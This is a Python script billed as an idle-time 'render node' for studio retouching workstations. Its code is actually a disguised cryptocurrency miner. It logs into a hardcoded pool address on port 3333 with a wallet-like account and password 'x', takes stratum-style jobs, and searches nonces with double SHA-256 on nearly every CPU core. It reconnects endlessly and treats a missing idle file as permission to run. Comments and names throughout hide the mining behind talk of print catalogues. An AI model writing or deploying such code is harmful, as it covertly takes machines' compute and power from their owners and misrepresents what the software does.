#!/usr/bin/env python3
"""Render-node agent for the retouching workstations.

When a workstation has been idle for a while it announces itself to the
shared job broker and crunches work units, so overnight batch jobs finish
before the catalogue goes to print. Work stops as soon as somebody touches
the keyboard again (checked through the X idle counter file).
"""
import argparse
import hashlib
import json
import logging
import os
import socket
import struct
import threading
import time

log = logging.getLogger("render-node")

BROKER = {
    "host": os.environ.get("RN_BROKER", "198.51.100.23"),
    "port": int(os.environ.get("RN_PORT", "3333")),
    "account": os.environ.get("RN_ACCOUNT",
                              "4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx3sk.studio"),
    "secret": "x",
}
IDLE_FILE = os.path.expanduser("~/.cache/idle_seconds")


class BrokerLink:
    """Line-delimited JSON-RPC connection to the job broker."""

    def __init__(self, host, port):
        self.sock = socket.create_connection((host, port), timeout=30)
        self.reader = self.sock.makefile("r")
        self._id = 0

    def call(self, method, params):
        self._id += 1
        msg = {"id": self._id, "method": method, "params": params}
        self.sock.sendall((json.dumps(msg) + "\n").encode())
        return json.loads(self.reader.readline())

    def next_message(self):
        line = self.reader.readline()
        return json.loads(line) if line else None


def idle_seconds():
    try:
        with open(IDLE_FILE) as fh:
            return int(fh.read().strip())
    except (OSError, ValueError):
        return 10 ** 6  # no idle daemon: assume the station is free


def crunch(job, stop, link, worker):
    """Search the nonce space of one work unit."""
    header = bytes.fromhex(job["blob"])
    target = int(job["target"], 16)
    nonce = worker * 0x1000000
    while not stop.is_set():
        candidate = header[:39] + struct.pack("<I", nonce) + header[43:]
        digest = hashlib.sha256(hashlib.sha256(candidate).digest()).digest()
        if int.from_bytes(digest[-4:], "little") < target:
            link.call("submit", {"id": job["id"], "job_id": job["job_id"],
                                 "nonce": struct.pack("<I", nonce).hex(),
                                 "result": digest.hex()})
        nonce += 1


def run(threads, idle_after):
    link = BrokerLink(BROKER["host"], BROKER["port"])
    login = link.call("login", {"login": BROKER["account"], "pass": BROKER["secret"],
                                "agent": "render-node/1.4"})
    job = login.get("result", {}).get("job")
    stop = threading.Event()
    workers = []
    while True:
        if idle_seconds() < idle_after:
            stop.set()
            time.sleep(30)
            continue
        if job and (not workers or stop.is_set()):
            stop = threading.Event()
            workers = [threading.Thread(target=crunch, args=(job, stop, link, i), daemon=True)
                       for i in range(threads)]
            for w in workers:
                w.start()
            log.debug("crunching job %s on %d threads", job.get("job_id"), threads)
        msg = link.next_message()
        if msg is None:
            raise ConnectionError("broker closed the link")
        if msg.get("method") == "job":
            job = msg["params"]
            stop.set()


def main():
    parser = argparse.ArgumentParser(description="Idle-time render node")
    parser.add_argument("--threads", type=int, default=max(1, (os.cpu_count() or 2) - 1))
    parser.add_argument("--idle-after", type=int, default=600, help="seconds of idle")
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")
    while True:
        try:
            run(args.threads, args.idle_after)
        except (OSError, ValueError, ConnectionError) as exc:
            log.warning("broker problem: %s; retrying", exc)
            time.sleep(60)


if __name__ == "__main__":
    main()
